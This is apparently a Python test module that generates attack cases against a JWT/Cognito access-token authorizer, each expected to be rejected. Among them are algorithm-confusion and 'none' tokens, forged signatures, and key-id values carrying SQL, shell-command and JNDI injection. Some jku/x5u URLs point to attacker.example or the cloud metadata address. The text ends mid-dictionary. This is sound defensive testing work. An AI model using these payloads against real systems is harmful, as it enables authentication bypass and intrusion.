"""Attacks with access tokens. All but the forged ones are signed by our pool's key: what refuses them is what they say."""

import base64
import hmac
import itertools
import json
from collections.abc import Callable, Iterator
from typing import Any

from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey
from cryptography.hazmat.primitives.hashes import SHA1, SHA256, SHA384, SHA512, HashAlgorithm
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from lambda_authorizer.encoding import b64url
from tests.lambda_authorizer.attacks import DENY, UNAUTHORIZED, Attack, Build, World, jsonable, shown
from tests.lambda_authorizer.test_tokens import CLAIMS, HEADERS, MANGLED, _mangled

_ANY = "token_.*"
_HEADER = "token_(header|algorithm|unknown_key)"
_SAID = "token_(claims|issuer|use|client|expired|not_yet_valid|lifetime)"


def attacks() -> Iterator[Attack]:
    for family in (
        _headers,
        _header_documents,
        _key_ids,
        _own_keys,
        _claims,
        _values,
        _payload_documents,
        _times,
        _spellings,
        _confusions,
        _schemes,
        _forgeries,
        _transplants,
        _shapes,
    ):
        yield from family()
    yield from _denials()


def _of(name: str, token: Callable[[World], str], reason: str = _ANY) -> Attack:
    return Attack("token", name, lambda world: world.bearer(token(world)), UNAUTHORIZED, reason)


def _with_header(**changes: Any) -> Callable[[World], str]:
    return lambda world: world.pool.sign(jsonable(world.pool.header(**changes)), jsonable(world.claims()))


def _with_claims(changes: dict[str, Any]) -> Callable[[World], str]:
    return lambda world: world.pool.sign(jsonable(world.pool.header()), jsonable(world.claims(**changes)))


_ALGORITHMS = (
    *("RS384", "RS512", "PS256", "PS384", "PS512", "HS256", "HS384", "HS512", "ES256", "ES384", "ES512", "ES256K", "EdDSA"),
    *("Ed25519", "ML-DSA-65", "RSA1_5", "RSA-OAEP", "RSA-OAEP-256", "dir", "A256KW", "ECDH-ES", "PBES2-HS256+A128KW"),
    *(
        "none",
        "None",
        "NONE",
        "nOnE",
        " none",
        "null",
        "",
        " ",
        " RS256",
        "RS256 ",
        "RS256\0",
        "RS256\n",
        "rs256",
        "Rs256",
        "RS256,none",
    ),
    *(
        "RSA256",
        "RSASHA256",
        "SHA256withRSA",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
        "\uff32\uff33256",
        "RS\u0662\u0665\u0666",
    ),
    *(None, True, False, 256, 1.5, [], ["RS256"], {}, {"RS256": 1}),
)


def _headers() -> Iterator[Attack]:
    for name, changes in HEADERS.items():
        yield _of(f"a header with {name}", _with_header(**changes), _HEADER)
    for algorithm in _ALGORITHMS:
        yield _of(f"algorithm {shown(algorithm)}", _with_header(alg=algorithm), _HEADER)
    for typ in (
        "",
        "jwt",
        "JWE",
        "JOSE",
        "JOSE+JSON",
        "ID",
        "at+JWT",
        "application/at+jwt",
        "JWT\0",
        " JWT",
        True,
        1,
        [],
        {},
        None,
    ):
        yield _of(f"type {shown(typ)}", _with_header(typ=typ), _HEADER)
    for name in (
        "enc",
        "p2c",
        "p2s",
        "epk",
        "apu",
        "iss",
        "sub",
        "aud",
        "exp",
        "nonce",
        "url",
        "ppt",
        "svt",
        "b64",
        "crit",
        "KID",
        "Alg",
        "",
    ):
        yield _of(f"a header parameter {shown(name)}", _with_header(**{name: "RS256"}), _HEADER)
    for critical in ([], ["exp"], ["alg"], ["kid"], ["b64"], "b64", None):
        yield _of(f"critical {shown(critical)}", _with_header(crit=critical), _HEADER)


def _header_documents() -> Iterator[Attack]:
    documents: dict[str, Callable[[bytes], bytes]] = {
        "the algorithm twice": lambda head: b'{"alg":"none",' + head[1:],
        "the algorithm twice, ours first": lambda head: head[:-1] + b',"alg":"none"}',
        "the key id twice": lambda head: b'{"kid":"key-2",' + head[1:],
        "the algorithm twice, once escaped": lambda head: b'{"\\u0061lg":"none",' + head[1:],
        "a mark of the byte order": lambda head: b"\xef\xbb\xbf" + head,
        "a null before": lambda head: b"\0" + head,
        "a null behind": lambda head: head + b"\0",
        "a null within": lambda head: head.replace(b"key-1", b"key\0-1"),
        "UTF-16": lambda head: head.decode().encode("utf-16"),
        "UTF-16 without a mark": lambda head: head.decode().encode("utf-16-le"),
        "UTF-32": lambda head: head.decode().encode("utf-32"),
        "an overlong form": lambda head: head.replace(b"-", b"\xc0\xad"),
        "half a character": lambda head: head.replace(b"-", b"\xc3"),
        "a lone surrogate in UTF-8": lambda head: head.replace(b"-", b"\xed\xa0\x80"),
        "single quotes": lambda head: head.replace(b'"', b"'"),
        "no quotes": lambda head: head.replace(b'"', b""),
        "a comma at the end": lambda head: head[:-1] + b",}",
        "a comment": lambda head: b"/**/" + head,
        "a second document": lambda head: head + b"{}",
        "a list around it": lambda head: b"[" + head + b"]",
        "a text around it": lambda head: jsonable(head.decode()),
        "base64 once more": lambda head: b64url(head).encode(),
        "not a number": lambda head: head[:-1] + b',"typ":NaN}',
        "nothing": lambda _: b"{}",
        "no bytes": lambda _: b"",
        "null": lambda _: b"null",
        "a number": lambda _: b"1",
        "a deep list": lambda head: head[:-1] + b',"typ":' + b"[" * 900 + b"]" * 900 + b"}",
        "a number of 2,000 digits": lambda head: head[:-1] + b',"typ":' + b"1" * 2000 + b"}",
        "a vertical tab": lambda head: b"\x0b" + head,
        "a space of another kind": lambda head: b"\xc2\xa0" + head,
    }
    for name, change in documents.items():
        yield _of(
            f"a header document with {name}",
            lambda world, change=change: world.pool.sign(change(jsonable(world.pool.header())), jsonable(world.claims())),
            "token_(malformed|header|algorithm|unknown_key)",
        )


_KEY_IDS = (
    *(
        "",
        " ",
        "key-1 ",
        " key-1",
        "key-1\0",
        "key-1\n",
        "KEY-1",
        "Key-1",
        "key-1/",
        "./key-1",
        "../key-1",
        "../../../../dev/null",
    ),
    *(
        "/dev/null",
        "file:///dev/null",
        "http://attacker.example/key",
        "https://cognito-idp.us-east-1.amazonaws.com/x",
        "key-1#",
        "key-1?x",
    ),
    *(
        "' OR '1'='1",
        "key-1' --",
        "key-1'; DROP TABLE keys; --",
        "1 UNION SELECT 'secret'",
        "|id",
        "$(id)",
        "`id`",
        "key-1;id",
        "%00",
        "*",
    ),
    *(
        "__proto__",
        "constructor",
        "__class__",
        "None",
        "null",
        "undefined",
        "0",
        "k\u0435y-1",
        "\uff4bey-1",
        "key\u20111",
        "key-1\u200b",
    ),
    *("key-1\ud800", "key-\u0661", "${jndi:ldap://attacker.example/x}", "{{7*7}}", "%s%n", "x" * 2000),
    *(None, True, 0, 1, 1.5, [], {}, ["key-1"], {"key-1": "key-1"}),
)


def _key_ids() -> Iterator[Attack]:
    for key_id in _KEY_IDS:
        yield _of(f"key id {shown(key_id)}", _with_header(kid=key_id), _HEADER)
    yield _of("the key id of a pool that is not ours", lambda world: world.other_pool.token(groups=["admin"]), _HEADER)


def _own_keys() -> Iterator[Attack]:
    """A key, or the way to one, in the header: signed with that key, and with ours all the same."""
    known: dict[str, Callable[[World], Any]] = {
        "jwk": lambda world: world.other_pool.jwk,
        "jwk of ours": lambda world: world.pool.jwk,
        "jwk of a secret": lambda world: {"kty": "oct", "k": b64url(b"secret")},
        "jwk of no kind": lambda world: {},
        "jku": lambda world: "https://attacker.example/.well-known/jwks.json",
        "jku of the issuer": lambda world: world.claims()["iss"] + "@attacker.example/jwks.json",
        "jku in place": lambda world: "data:application/json;base64," + b64url(world.other_pool.jwks),
        "jku of this machine": lambda world: "http://127.0.0.1/jwks.json",
        "jku of the metadata": lambda world: "http://169.254.169.254/latest/meta-data/",
        "x5c": lambda world: [base64.b64encode(_public(world.other_pool.public_key, Encoding.DER)).decode()],
        "x5c of nothing": lambda world: [],
        "x5u": lambda world: "https://attacker.example/certificate.pem",
        "x5t": lambda world: b64url(bytes(20)),
        "x5t#S256": lambda world: b64url(bytes(32)),
    }
    for (name, value), ours in itertools.product(known.items(), (False, True)):

        def token(world: World, name: str = name, value: Callable[[World], Any] = value, ours: bool = ours) -> str:
            signer = world.pool if ours else world.other_pool
            return signer.sign(jsonable(world.pool.header(**{name.split()[0]: value(world)})), jsonable(world.claims()))

        yield _of(f"{name} in the header, {'signed by us' if ours else 'signed by it'}", token, "token_header")


_WRONG = {
    "null": None,
    "true": True,
    "false": False,
    "zero": 0,
    "a negative number": -1,
    "a fraction": 1.5,
    "a number of 41 digits": 10**40,
    "a text": "x",
    "no text": "",
    "a list": ["x"],
    "an empty list": [],
    "an object": {},
    "a list of lists": [[]],
    "a list of null": [None],
}
# What such a claim may be, and is then another token, or a Deny.
_POSSIBLE = {
    "sub": {"a text"},
    "jti": {"a text"},
    "nbf": {"zero"},
    "scope": {"a text", "no text"},
    "cognito:groups": {"an empty list", "a list"},
    "auth_time": {"zero"},
}
_AUDIENCES = ("api.example.org", "https://api.example.org", "*", " ", "heartmap", ["heartmap"], ["*"], [[]], [None], {"3n4b5": 1})


def _claims() -> Iterator[Attack]:
    for name, changes in CLAIMS.items():
        yield _of(f"claims with {name}", _with_claims(changes), f"{_SAID}|token_malformed")
    names = ("iss", "sub", "client_id", "token_use", "exp", "iat", "nbf", "jti", "scope", "cognito:groups", "aud", "auth_time")
    for claim, (kind, value) in itertools.product(names, _WRONG.items()):
        if kind not in _POSSIBLE.get(claim, ()):
            yield _of(f"{claim} of {kind}", _with_claims({claim: value}), _SAID)
    for claim in ("iss", "sub", "client_id", "token_use", "exp", "iat"):
        yield _of(f"no {claim}", _with_claims({claim: ...}), _SAID)
        yield _of(f"{claim} in upper case", _with_claims({claim: ..., claim.upper(): "x"}), _SAID)


_CLIENTS = (
    *("3n4b5urk1ft4fl3mg5e62d9adO", "3N4B5URK1FT4FL3MG5E62D9ADO", "3n4b5urk1ft4fl3mg5e62d9ad", "3n4b5urk1ft4fl3mg5e62d9ado,x"),
    *("\0", "*", "%", "3n4b5urk1ft4fl3mg5e62d9ado\0", "\u200b3n4b5urk1ft4fl3mg5e62d9ado", "3n4b5urk1ft4fl3mg5e62d9ado\n"),
)
_USES = (
    *("id", "refresh", "ACCESS", "access ", " access", "access\0", "access_token", "\u0430ccess", "id access"),
    *(["access"], {"access": 1}),
)
_GROUPS = (
    "admin",
    "admin,viewer",
    {"0": "admin"},
    ["admin", None],
    ["admin", 0],
    ["admin", True],
    [["admin"]],
    [{"admin": 1}],
    7,
)


def _values() -> Iterator[Attack]:
    for issuer in _issuers():
        yield _of(f"issuer {shown(issuer)}", _with_claims({"iss": issuer}), "token_issuer")
    for client in _CLIENTS:
        yield _of(f"client {shown(client)}", _with_claims({"client_id": client}), "token_client")
    for audience in _AUDIENCES:
        yield _of(f"audience {shown(audience)}", _with_claims({"aud": audience}), "token_(client|claims)")
    for use in _USES:
        yield _of(f"use {shown(use)}", _with_claims({"token_use": use}), "token_use")
    for subject in ("a b", "a\tb", "a\0", "\u00e9", "a\u2028b", "\x7f", "x" * 257, '{"a":1}\n'):
        yield _of(f"subject {shown(subject)}", _with_claims({"sub": subject}), "token_claims")
        yield _of(f"token id {shown(subject)}", _with_claims({"jti": subject}), "token_claims")
    for groups in _GROUPS:
        yield _of(f"groups {shown(groups)}", _with_claims({"cognito:groups": groups}), "token_claims")
    identity = {"token_use": "id", "aud": "3n4b5urk1ft4fl3mg5e62d9ado", "client_id": ..., "scope": ..., "email": "a@example.org"}
    yield _of("an ID token", _with_claims(identity), "token_use")
    yield _of("an ID token that calls itself an access token", _with_claims(identity | {"token_use": "access"}), "token_client")
    yield _of(
        "an ID token that names the client too", _with_claims(identity | {"client_id": "3n4b5urk1ft4fl3mg5e62d9ado"}), "token_use"
    )


def _issuers() -> tuple[str, ...]:
    ours = "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_Example01"
    return (
        f"{ours}/",
        f"{ours}//",
        f"{ours}?",
        f"{ours}#",
        f"{ours}#x",
        f"{ours} ",
        f" {ours}",
        f"{ours}\n",
        f"{ours}\0",
        f"{ours}1",
        ours[:-1],
        f"{ours}/.well-known/jwks.json",
        f"{ours},https://attacker.example",
        f"https://attacker.example/{ours}",
        ours.replace("https", "http"),
        ours.replace("https://", ""),
        ours.replace("https://", "//"),
        ours.upper(),
        ours.replace("Example01", "example01"),
        ours.replace("Example01", "Example02"),
        ours.replace("Example01", "Example0%31"),
        ours.replace("us-east-1.", "us-east-2."),
        ours.replace(".com/", ".com:443/"),
        ours.replace(".com/", ".com./"),
        ours.replace(".com/", ".com.attacker.example/"),
        ours.replace("//", "//attacker.example@"),
        ours.replace("//", "//x:y@"),
        ours.replace("com/", "com/../"),
        ours.replace("com/", "com/./"),
        ours.replace("com/", "com\\"),
        ours.replace("o", "\u043e", 1),
        ours.replace(".", "\u3002", 1),
        "https://cognito-idp.us-east-1.amazonaws.com/",
        "https://accounts.google.com",
        "https://cognito-identity.amazonaws.com",
        "us-east-1_Example01",
        "*",
    )


def _payload_documents() -> Iterator[Attack]:
    documents: dict[str, Callable[[bytes], bytes]] = {
        "the subject twice": lambda text: b'{"sub":"admin",' + text[1:],
        "the end twice": lambda text: text[:-1] + b',"exp":9999999999}',
        "the groups twice": lambda text: text[:-1] + b',"cognito:groups":["admin"]}',
        "the issuer twice, once escaped": lambda text: b'{"\\u0069ss":"https://attacker.example",' + text[1:],
        "a key twice within a list": lambda text: text[:-1] + b',"x":[{"a":1,"a":1}]}',
        "a key twice, deep": lambda text: text[:-1] + b',"x":{"y":{"z":1,"z":2}}}',
        "a mark of the byte order": lambda text: b"\xef\xbb\xbf" + text,
        "a null behind": lambda text: text + b"\0",
        "a null before": lambda text: b"\0" + text,
        "UTF-16": lambda text: text.decode().encode("utf-16"),
        "UTF-32": lambda text: text.decode().encode("utf-32"),
        "half a character": lambda text: text.replace(b"someone", b"some\xc3"),
        "an overlong form": lambda text: text.replace(b"someone", b"some\xc0\xae"),
        "a surrogate in UTF-8": lambda text: text.replace(b"someone", b"\xed\xa0\x80"),
        "NaN as end": lambda text: text[:-1] + b',"x":NaN}',
        "Infinity": lambda text: text[:-1] + b',"x":Infinity}',
        "minus Infinity": lambda text: text[:-1] + b',"x":-Infinity}',
        "an infinite end": lambda text: text.replace(b'"exp": ', b'"exp": 1e400, "old": '),
        "an end as power": lambda text: text.replace(b'"exp": ', b'"exp": 2e9, "old": '),
        "an end with a fraction": lambda text: text.replace(b'"exp": ', b'"exp": 9999999999.0, "old": '),
        "minus zero as start": lambda text: text[:-1] + b',"nbf":-0.0}',
        "an end in hexadecimal": lambda text: text.replace(b'"exp": ', b'"exp": 0x7fffffff, "old": '),
        "an end with a zero before": lambda text: text.replace(b'"exp": ', b'"exp": 0'),
        "an end with a plus": lambda text: text.replace(b'"exp": ', b'"exp": +'),
        "a comma at the end": lambda text: text[:-1] + b",}",
        "a comment": lambda text: text + b"//",
        "a second document": lambda text: text + text,
        "a list around it": lambda text: b"[" + text + b"]",
        "a text around it": lambda text: jsonable(text.decode()),
        "base64 once more": lambda text: b64url(text).encode(),
        "single quotes": lambda text: text.replace(b'"', b"'"),
        "a newline in a text": lambda text: text.replace(b"someone", b"some\none"),
        "nothing": lambda _: b"{}",
        "null": lambda _: b"null",
        "an empty list": lambda _: b"[]",
        "a number": lambda _: b"1",
        "a text": lambda _: b'"x"',
        "true": lambda _: b"true",
        "a letter": lambda _: b"x",
        "a list of 1,300 lists": lambda _: b'{"x":' + b"[" * 1300 + b"]" * 1300 + b"}",
        "a deep object": lambda text: text[:-1] + b',"x":' + b'{"a":' * 250 + b"1" + b"}" * 249,
    }
    for name, change in documents.items():
        yield _of(
            f"a payload with {name}",
            lambda world, change=change: world.pool.sign(jsonable(world.pool.header()), change(jsonable(world.claims()))),
            f"token_malformed|{_SAID}",
        )


def _times() -> Iterator[Attack]:
    windows: dict[str, tuple[dict[str, int], str]] = {
        "ended a minute ago": ({"iat": -3600, "exp": -60}, "token_expired"),
        "ended an hour ago": ({"iat": -7200, "exp": -3600}, "token_expired"),
        "ended a day ago": ({"iat": -90000, "exp": -86400}, "token_expired"),
        "ended before it began": ({"iat": 0, "exp": -30}, "token_lifetime"),
        "ended when it began": ({"iat": 0, "exp": 0}, "token_lifetime"),
        "begins in a minute": ({"iat": 61, "exp": 600}, "token_not_yet_valid"),
        "begins in an hour": ({"iat": 3600, "exp": 7200}, "token_not_yet_valid"),
        "begins in a year": ({"iat": 31536000, "exp": 31539600}, "token_not_yet_valid"),
        "valid in a minute": ({"iat": 0, "nbf": 61, "exp": 600}, "token_not_yet_valid"),
        "valid after its end": ({"iat": 0, "nbf": 50, "exp": 40}, "token_lifetime"),
        "valid at its end": ({"iat": 0, "nbf": 40, "exp": 40}, "token_lifetime"),
        "for a day and a second": ({"iat": 0, "exp": 86401}, "token_lifetime"),
        "for a week": ({"iat": -86400, "exp": 6 * 86400}, "token_lifetime"),
        "for ten years": ({"iat": 0, "exp": 10 * 31536000}, "token_lifetime"),
        "for ever": ({"iat": -1_000_000_000, "exp": 1_000_000_000}, "token_lifetime"),
    }
    for name, (offsets, reason) in windows.items():

        def token(world: World, offsets: dict[str, int] = offsets) -> str:
            return world.token(**{claim: world.now + offset for claim, offset in offsets.items()})

        yield _of(f"a token that {name}" if name[0] != "f" else f"a token {name}", token, reason)
    for claim, unit in itertools.product(("exp", "iat", "nbf"), (1000, 10**6, 10**9)):
        yield _of(
            f"{claim} in units of 1/{unit} s",
            lambda world, claim=claim, unit=unit: world.token(**{claim: world.now * unit}),
            "token_(claims|lifetime|not_yet_valid)",
        )


def _resigned(world: World, part: int, change: Callable[[str], str], length: int | None = None) -> str:
    """A token whose header (0) or payload (1) is spelt in another way, under a signature of just that spelling."""
    documents = [jsonable(world.pool.header()), jsonable(world.claims())]
    if length is not None:
        # Spaces behind, which JSON allows, make the length leave so many bytes over when divided by three.
        documents[part] += b" " * ((length - len(documents[part])) % 3)
    parts = [b64url(document) for document in documents]
    parts[part] = change(parts[part])
    signed = ".".join(parts)
    return f"{signed}.{b64url(_rsa(world, signed.encode()))}"


def _rsa(
    world: World, data: bytes, scheme: padding.AsymmetricPadding | None = None, digest: HashAlgorithm | None = None
) -> bytes:
    return world.pool.private_key.sign(data, scheme or padding.PKCS1v15(), digest or SHA256())


_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
_SPELLINGS: dict[str, Callable[[str], str]] = {
    "padding": lambda part: part + "=" * (-len(part) % 4 or 4),
    "one sign of padding": lambda part: part + "=",
    "padding within": lambda part: f"{part[:4]}=={part[4:]}",
    "a space": lambda part: f"{part[:4]} {part[4:]}",
    "a newline": lambda part: f"{part[:4]}\n{part[4:]}",
    "a carriage return and a newline": lambda part: f"{part[:4]}\r\n{part[4:]}",
    "a tab": lambda part: f"{part}\t",
    "a null": lambda part: f"{part[:4]}\0{part[4:]}",
    "a percent sign": lambda part: part.replace(part[4], f"%{ord(part[4]):02X}", 1),
    "the standard alphabet": lambda part: f"{part[:4]}+/+/{part[4:]}",
    "a character of no alphabet": lambda part: f"{part[:4]}!{part[4:]}",
    "a letter of another script": lambda part: f"{part[:4]}\u0430{part[4:]}",
    "full width": lambda part: f"{part[:4]}\uff21{part[4:]}",
    "a dot behind": lambda part: f"{part}.",
    "a dot before": lambda part: f".{part}",
    "one character too many": lambda part: part + "A" * ((1 - len(part)) % 4),
    "quotes": lambda part: f'"{part}"',
    "nothing": lambda part: "",
}


def _spellings() -> Iterator[Attack]:
    for (name, change), (part, what) in itertools.product(_SPELLINGS.items(), ((0, "header"), (1, "payload"))):
        yield _of(
            f"{name} in the {what}'s base64",
            lambda world, change=change, part=part: _resigned(world, part, change),
            "token_malformed|unknown_scheme",
        )
    for (length, bits), (part, what) in itertools.product(((1, 1), (1, 8), (2, 1), (2, 2)), ((0, "header"), (1, "payload"))):

        def twin(text: str, bits: int = bits) -> str:
            return text[:-1] + _ALPHABET[_ALPHABET.index(text[-1]) ^ bits]

        yield _of(
            f"unused bits {bits} of {length} bytes set in the {what}",
            lambda world, twin=twin, part=part, length=length: _resigned(world, part, twin, length),
            "token_malformed",
        )
    for name, change in _SPELLINGS.items():

        def token(world: World, change: Callable[[str], str] = change) -> str:
            signed, _, proof = world.token().rpartition(".")
            return f"{signed}.{change(proof)}"

        yield _of(f"{name} in the signature's base64", token, "token_(malformed|signature)|unknown_scheme")


def _public(key: RSAPublicKey, encoding: Encoding, form: PublicFormat = PublicFormat.SubjectPublicKeyInfo) -> bytes:
    return key.public_bytes(encoding, form)


_SECRETS: dict[str, Callable[[World], bytes]] = {
    "PEM": lambda world: _public(world.pool.public_key, Encoding.PEM),
    "PEM without its last newline": lambda world: _public(world.pool.public_key, Encoding.PEM).rstrip(),
    "PKCS #1 PEM": lambda world: _public(world.pool.public_key, Encoding.PEM, PublicFormat.PKCS1),
    "DER": lambda world: _public(world.pool.public_key, Encoding.DER),
    "PKCS #1 DER": lambda world: _public(world.pool.public_key, Encoding.DER, PublicFormat.PKCS1),
    "SSH": lambda world: _public(world.pool.public_key, Encoding.OpenSSH, PublicFormat.OpenSSH),
    "JWK": lambda world: jsonable(world.pool.jwk),
    "JWKS": lambda world: world.pool.jwks,
    "modulus": lambda world: world.pool.jwk["n"].encode(),
    "key id": lambda world: world.pool.key_id.encode(),
    "nothing": lambda _: b"",
}


def _of_signed(name: str, made: Callable[[World, str], str], reason: str, **header: Any) -> Attack:
    """Good claims under this header, and what ``made`` makes of them in the place of a signature."""

    def token(world: World) -> str:
        signed = _unsigned(world, **header)
        return f"{signed}.{made(world, signed)}"

    return _of(name, token, reason)


def _confusions() -> Iterator[Attack]:
    """The public key taken for a secret."""
    for (name, secret), bits, claimed in itertools.product(_SECRETS.items(), (256, 384, 512), (None, "RS256")):

        def made(world: World, signed: str, secret: Callable[[World], bytes] = secret, bits: int = bits) -> str:
            return b64url(hmac.digest(secret(world), signed.encode(), f"sha{bits}"))

        name = f"HMAC-SHA{bits} under the public key as {name}{', called RS256' if claimed else ''}"
        yield _of_signed(name, made, "token_(algorithm|signature)", alg=claimed or f"HS{bits}")


def _schemes() -> Iterator[Attack]:
    """Our key's signatures by other schemes."""
    schemes: dict[str, tuple[padding.AsymmetricPadding, HashAlgorithm]] = {
        "SHA-1": (padding.PKCS1v15(), SHA1()),  # noqa: S303  # an attack
        "SHA-384": (padding.PKCS1v15(), SHA384()),
        "SHA-512": (padding.PKCS1v15(), SHA512()),
        "PSS": (padding.PSS(padding.MGF1(SHA256()), 32), SHA256()),
        "PSS without salt": (padding.PSS(padding.MGF1(SHA256()), 0), SHA256()),
        "PSS with SHA-512": (padding.PSS(padding.MGF1(SHA512()), 64), SHA512()),
    }
    for name, scheme in schemes.items():

        def made(world: World, signed: str, scheme: tuple[padding.AsymmetricPadding, HashAlgorithm] = scheme) -> str:
            return b64url(_rsa(world, signed.encode(), *scheme))

        yield _of_signed(f"our key's signature by {name}", made, "token_signature")


def _forgeries() -> Iterator[Attack]:
    """Signatures that our pool's key did not make, or not over this."""
    numbers: dict[str, Callable[[World, bytes], bytes]] = {
        "the modulus added": lambda world, proof: (int.from_bytes(proof, "big") + _modulus(world)).to_bytes(257, "big"),
        "the sign changed": lambda world, proof: (_modulus(world) - int.from_bytes(proof, "big")).to_bytes(256, "big"),
        "a zero byte before": lambda _, proof: b"\0" + proof,
        "a zero byte behind": lambda _, proof: proof + b"\0",
        "its first byte off": lambda _, proof: proof[1:],
        "its last byte off": lambda _, proof: proof[:-1],
        "its bytes in reverse": lambda _, proof: proof[::-1],
        "zeros": lambda *_: bytes(256),
        "one": lambda *_: bytes(255) + b"\1",
        "ones": lambda *_: b"\xff" * 256,
        "the modulus": lambda world, _: _modulus(world).to_bytes(256, "big"),
        "the modulus less one": lambda world, _: (_modulus(world) - 1).to_bytes(256, "big"),
        "one byte": lambda *_: b"\1",
        "no byte": lambda *_: b"",
        "itself twice": lambda _, proof: proof + proof,
        "a sequence around it": lambda _, proof: b"\x30\x82\x01\x00" + proof,
        "another's": lambda world, _: world.other_pool.private_key.sign(_unsigned(world).encode(), padding.PKCS1v15(), SHA256()),
        "that of the payload alone": lambda world, _: _rsa(world, _unsigned(world).partition(".")[2].encode()),
        "that of the payload's bytes": lambda world, _: _rsa(world, jsonable(world.claims())),
        "that of another token": lambda world, _: _rsa(world, world.token(sub="another").rpartition(".")[0].encode()),
        "that of nothing": lambda world, _: _rsa(world, b""),
    }
    for name, change in numbers.items():

        def made(world: World, signed: str, change: Callable[[World, bytes], bytes] = change) -> str:
            return b64url(change(world, _rsa(world, signed.encode())))

        yield _of_signed(f"a signature that is {name}", made, "token_(malformed|signature)")
    for position in range(0, 342, 18):

        def changed(world: World, signed: str, position: int = position) -> str:
            proof = b64url(_rsa(world, signed.encode()))
            other = _ALPHABET[_ALPHABET.index(proof[position]) ^ 32]
            return f"{proof[:position]}{other}{proof[position + 1 :]}"

        yield _of_signed(f"a signature with character {position} changed", changed, "token_(malformed|signature)")


def _transplants() -> Iterator[Attack]:
    """A signature of something else, or none."""
    escalations = {
        "groups": {"cognito:groups": ["admin"]},
        "a subject": {"sub": "root"},
        "an end": {"exp": 9999999999},
        "scopes": {"scope": "heartmap/config:write"},
    }
    for name, changes in escalations.items():

        def token(world: World, changes: dict[str, Any] = changes) -> str:
            head, _, proof = world.pool.token().split(".")
            return f"{head}.{b64url(jsonable(world.claims(**changes)))}.{proof}"

        yield _of(f"{name} put into a viewer's token", token, "token_signature")
    for algorithm in ("none", "None", "NONE", "nOnE", "", None, ...):
        for proof in ("", "AAAA", "none"):
            name = f"algorithm {shown(algorithm) if algorithm is not ... else 'left out'} and the signature {proof!r}"
            yield _of_signed(name, lambda *_, proof=proof: proof, "token_(malformed|algorithm)", alg=algorithm)


def _modulus(world: World) -> int:
    return world.pool.public_key.public_numbers().n


def _unsigned(world: World, **header: Any) -> str:
    return f"{b64url(jsonable(world.pool.header(**header)))}.{b64url(jsonable(world.claims()))}"


def _shapes() -> Iterator[Attack]:
    for name in MANGLED:
        yield _of(f"a mangled token: {name}", lambda world, name=name: _mangled(world.token())[name], "token_.*|unknown_scheme")
    shapes: dict[str, Callable[[str, list[str]], str]] = {
        "one part": lambda _, parts: parts[1],
        "its parts in reverse": lambda _, parts: ".".join(reversed(parts)),
        "its payload first": lambda _, parts: f"{parts[1]}.{parts[0]}.{parts[2]}",
        "its header twice": lambda _, parts: f"{parts[0]}.{parts[0]}.{parts[2]}",
        "its payload detached": lambda _, parts: f"{parts[0]}..{parts[2]}",
        "its header left out": lambda _, parts: f".{parts[1]}.{parts[2]}",
        "a JWE of five parts": lambda _, parts: f"{parts[0]}.{parts[1]}.{parts[2]}.AAAA.AAAA",
        "a JWE without a key": lambda _, parts: f"{parts[0]}..{parts[1]}.{parts[2]}.AAAA",
        "a disclosure behind (SD-JWT)": lambda token, _: f"{token}~WyJzYWx0IiwiZ3JvdXBzIl0~",
        "a tilde behind": lambda token, _: f"{token}~",
        "the general JSON form": lambda _, parts: json.dumps(
            {"payload": parts[1], "signatures": [{"protected": parts[0], "signature": parts[2]}]}
        ),
        "the flattened JSON form": lambda _, parts: json.dumps(
            {"payload": parts[1], "protected": parts[0], "signature": parts[2]}
        ),
        "a header outside the signature": lambda _, parts: json.dumps(
            {"payload": parts[1], "header": {"alg": "none"}, "signature": ""}
        ),
        "PASETO's prefix": lambda _, parts: f"v4.public.{parts[1]}",
        "percent signs for its dots": lambda token, _: token.replace(".", "%2E"),
        "dots of another script": lambda token, _: token.replace(".", "\u3002"),
        "its letters in lower case": lambda token, _: token.lower(),
        "its letters in the other case": lambda token, _: token.swapcase(),
        "its base64 once more": lambda token, _: b64url(token.encode()),
        "quotes": lambda token, _: f"'{token}'",
        "brackets": lambda token, _: f"<{token}>",
        "a name before": lambda token, _: f"token={token}",
        "a zero-width space": lambda token, _: f"{token}\u200b",
        "a mark of the byte order": lambda token, _: f"\ufeff{token}",
        "a comma behind": lambda token, _: f"{token},",
        "a parameter behind": lambda token, _: f"{token}; charset=utf-8",
        "a null and more": lambda token, _: f"{token}\0.x",
        "a newline and a header": lambda token, _: f"{token}\r\nX-Admin: 1",
        "Bearer twice": lambda token, _: f"Bearer {token}",
        "4,097 characters of signature": lambda _, parts: f"{parts[0]}.{parts[1]}.{parts[2]}{'A' * 4096}",
        "4,097 characters of header": lambda _, parts: f"{'A' * 4096}.{parts[1]}.{parts[2]}",
        "a million characters": lambda token, _: f"{token}{'A' * 1_000_000}",
        "a million dots": lambda _, parts: f"{parts[0]}{'.' * 1_000_000}{parts[2]}",
    }
    for name, change in shapes.items():

        def token(world: World, change: Callable[[str, list[str]], str] = change) -> str:
            token = world.token()
            return change(token, token.split("."))

        yield _of(f"a token with {name}", token, "token_.*|unknown_scheme")
    yield _of("a token with 4,200 characters of claims", lambda world: world.token(filler="x" * 3000), "token_too_long")
    yield _of(
        "a token within a token",
        lambda world: world.pool.sign(jsonable(world.pool.header()), world.token().encode()),
        "token_malformed",
    )
    yield _of(
        "a token within a token, announced",
        lambda world: world.pool.sign(jsonable(world.pool.header(cty="JWT")), world.token().encode()),
        "token_header",
    )
    yield _of("an API key as a token", lambda world: world.key(), "token_malformed")
    yield _of(
        "a token within a claim",
        lambda world: world.pool.sign(jsonable(world.pool.header()), jsonable({"jwt": world.token()})),
        _SAID,
    )


def _denials() -> Iterator[Attack]:
    """Good credentials for less than is asked for."""
    tokens: dict[str, tuple[dict[str, Any], str]] = {
        "a viewer": ({"groups": ["viewer"]}, "not_permitted"),
        "an analyst": ({"groups": ["analyst"]}, "not_permitted"),
        "nobody's group": ({"groups": []}, "not_permitted"),
        "no groups": ({"groups": ...}, "not_permitted"),
        "groups of another spelling": (
            {"groups": ["Admin", "ADMIN", "admin ", " admin", "admins", "admin\0", "\u0430dmin", "adm\u0131n"]},
            "not_permitted",
        ),
        "groups of another API": ({"groups": ["heartmap:admin", "heartmap/admin", "admin/*", "*", ""]}, "not_permitted"),
